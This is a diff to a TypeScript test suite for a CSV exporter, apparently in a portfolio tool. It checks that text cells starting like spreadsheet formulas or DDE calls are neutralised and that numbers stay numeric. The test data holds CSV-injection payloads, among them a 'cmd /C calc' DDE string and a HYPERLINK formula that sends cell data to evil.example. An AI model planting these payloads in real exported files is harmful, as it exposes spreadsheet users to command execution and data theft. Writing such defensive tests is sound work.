@@ -42,6 +42,11 @@ describe('CSV cells', () => {
     ['\tcmd', `"'\tcmd"`],
     ['\rcmd', `"'\rcmd"`],
     ['\ncmd', `"'\ncmd"`],
+    ['|cmd', `"'|cmd"`],
+    ["|cmd '/C calc'!A0", `"'|cmd '/C calc'!A0"`],
+    ['=cmd|\' /C calc\'!A0', `"'=cmd|' /C calc'!A0"`],
+    ['  =1+1', `"'  =1+1"`],
+    ['-5', `"'-5"`],
   ])('neutralises the formula-like text %j', (text, cell) => {
     expect(csvText(text)).toBe(cell);
   });
@@ -50,6 +55,12 @@ describe('CSV cells', () => {
     expect(csvText('Smith, John')).toBe('"Smith, John"');
     expect(csvText('say "hi"')).toBe('"say ""hi"""');
     expect(csvText('a=b')).toBe('a=b');
+    expect(csvText('a|b')).toBe('a|b');
+    expect(csvText('2-3')).toBe('2-3');
+  });
+  it('quotes a text with a semicolon or a tab, so a spreadsheet that splits on them does not start a cell at “=”', () => {
+    expect(csvText('x;=1+1')).toBe('"x;=1+1"');
+    expect(csvText('x\t=1+1')).toBe('"x\t=1+1"');
   });
   it('writes numbers as numbers: a negative number stays -12.5, unquoted', () => {
     expect(csvCell(-12.5)).toBe('-12.5');
@@ -60,6 +71,62 @@ describe('CSV cells', () => {
   });
   it('ends every line with CRLF', () => {
     expect(csvDocument(['a', 'b'], [[1, 'x']])).toBe('a,b\r\n1,x\r\n');
+  });
+});
+
+describe('text cells from the user’s file and numbers from ours', () => {
+  // The fixture book with hostile texts where a user's file puts text: names, accounts, symbols; one short position.
+  const base = fixtureRun();
+  const hostile = ['-2+3', "|cmd '/C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(A1:A9)', '@SUM(1)', '\t=1'];
+  const run = {
+    ...base,
+    inputs: {
+      ...base.inputs,
+      portfolio: {
+        ...base.inputs.portfolio,
+        holdings: base.inputs.portfolio.holdings.map((h, i) => ({
+          ...h,
+          name: hostile[i % hostile.length]!,
+          account: hostile[(i + 1) % hostile.length]!,
+          symbol: i === 2 ? '-MSTR' : h.symbol,
+          quantity: i === 2 ? -100 : h.quantity,
+        })),
+      },
+    },
+  };
+  const rows = parseCsv(holdingsCsv(run));
+  const column = (name: string) => rows[0]!.indexOf(name);
+
+  it('neutralises every text cell that starts like a formula or a DDE call', () => {
+    expect(rows[1]![column('name')]).toBe("'-2+3");
+    expect(rows[2]![column('name')]).toBe("'|cmd '/C calc'!A0");
+    expect(rows[3]![column('name')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    expect(rows[1]![column('account')]).toBe("'|cmd '/C calc'!A0");
+    expect(rows[3]![column('symbol')]).toBe("'-MSTR");
+    for (const row of rows.slice(1)) {
+      for (const name of ['account', 'symbol', 'name']) {
+        const cell = row[column(name)]!;
+        if (/^[\s]*[=+\-@|]|^[\t\r\n]/.test(cell)) throw new Error(`unneutralised ${name} cell ${cell}`);
+      }
+    }
+  });
+
+  it('keeps the cells it writes from numbers as numbers, negative ones too', () => {
+    const short = rows[3]!;
+    expect(short[column('quantity')]).toBe('-100');
+    const loan = rows.find((r) => r[column('symbol')] === 'LOAN')!;
+    expect(loan[column('market_value')]).toBe('-35000');
+    expect(loan[column('value_base')]).toBe('-35000');
+    // Unquoted in the file: what a spreadsheet reads as a number.
+    expect(holdingsCsv(run)).toMatch(/,-35000,-35000,USD,/);
+    for (const row of rows.slice(1)) {
+      for (const name of ['quantity', 'price', 'market_value', 'value_base', 'phase_one_loss', 'loss_pct_of_value']) {
+        const cell = row[column(name)]!;
+        if (cell !== '') expect(Number.isFinite(Number(cell)), `${name} ${cell}`).toBe(true);
+      }
+    }
+    // A negative number in the other exports stays a number as well.
+    expect(parseCsv(exposuresCsv(run)).find((r) => r[0] === 'cash')?.[2]).toBe('-25000');
   });
 });
 
